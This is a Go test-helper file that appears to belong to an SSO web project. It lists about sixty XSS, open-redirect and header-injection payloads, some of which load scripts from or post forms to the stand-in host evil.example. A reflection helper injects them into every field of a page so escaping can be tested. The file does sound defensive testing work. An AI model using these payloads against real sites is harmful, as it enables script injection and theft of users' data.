package webtest

import (
	"net/url"
	"reflect"
	"strings"

	"github.com/gatehouse-sso/gatehouse/web"
)

// Payloads are texts that have broken out of other people's pages. A page that
// holds one must show it and do nothing else.
func Payloads() []string {
	return []string{
		`<script>alert(1)</script>`,
		`</script><script>alert(1)</script>`,
		`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
		`"><script>alert(1)</script>`,
		`'><script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`"><img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<body onload=alert(1)>`,
		`<iframe src=javascript:alert(1)></iframe>`,
		`<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data=javascript:alert(1)>`,
		`<embed src=javascript:alert(1)>`,
		`<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<style>*{background:url(//evil.example)}</style>`,
		`<form action=//evil.example><input name=q>`,
		`</form><form action=//evil.example method=post>`,
		`<input autofocus onfocus=alert(1)>`,
		`<details open ontoggle=alert(1)>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`</title><script>alert(1)</script>`,
		`</textarea><script>alert(1)</script>`,
		`--><script>alert(1)</script><!--`,
		`]]><script>alert(1)</script>`,
		`</pre><script>alert(1)</script>`,
		`" onmouseover="alert(1)`,
		`' onmouseover='alert(1)`,
		"` onmouseover=`alert(1)",
		` onmouseover=alert(1) x=`,
		`javascript:alert(1)`,
		`JaVaScRiPt:alert(1)`,
		"java\tscript:alert(1)",
		"\x01javascript:alert(1)",
		` javascript:alert(1)`,
		`javascript://%0aalert(1)`,
		`data:text/html,<script>alert(1)</script>`,
		`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
		`vbscript:msgbox(1)`,
		`//evil.example/`,
		`/\evil.example/`,
		`\\evil.example\`,
		`https:evil.example`,
		`https://user:password@evil.example/`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&#60;script&#62;alert(1)&#60;/script&#62;`,
		`{{.}}{{template "layout"}}`,
		`{service}{name}{n}`,
		"a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
		"\u202e\u2066<script>alert(1)</script>",
		"\x00<script>alert(1)</script>",
		"\xff\xfe<script>alert(1)</script>",
		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		`${alert(1)}`,
		`%3Cscript%3Ealert(1)%3C/script%3E`,
		`a@b.example?subject=x"><script>alert(1)</script>`,
	}
}

// With is a copy of page in which every text is text, and every address that
// is not empty is address; an empty address leaves them as they are.
func With(page web.Page, text, address string) web.Page {
	copied := reflect.New(reflect.TypeOf(page)).Elem()
	copied.Set(reflect.ValueOf(page))
	fill(copied, "", text, address)
	return copied.Interface().(web.Page)
}

func fill(v reflect.Value, name, text, address string) {
	switch v.Kind() {
	case reflect.String:
		isAddress := strings.HasSuffix(name, "URL") || name == "Action"
		switch {
		case isAddress && address != "" && v.String() != "":
			v.SetString(address)
		case !isAddress:
			v.SetString(text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() {
				fill(v.Field(i), f.Name, text, address)
			}
		}
	case reflect.Slice:
		fresh := reflect.MakeSlice(v.Type(), v.Len(), v.Len())
		reflect.Copy(fresh, v)
		v.Set(fresh)
		for i := range v.Len() {
			fill(v.Index(i), name, text, address)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			fresh := reflect.New(v.Type().Elem())
			fresh.Elem().Set(v.Elem())
			v.Set(fresh)
			fill(fresh.Elem(), name, text, address)
		}
	case reflect.Map:
		if v.Len() > 0 {
			v.Set(reflect.ValueOf(url.Values{text: {text}}))
		}
	}
}
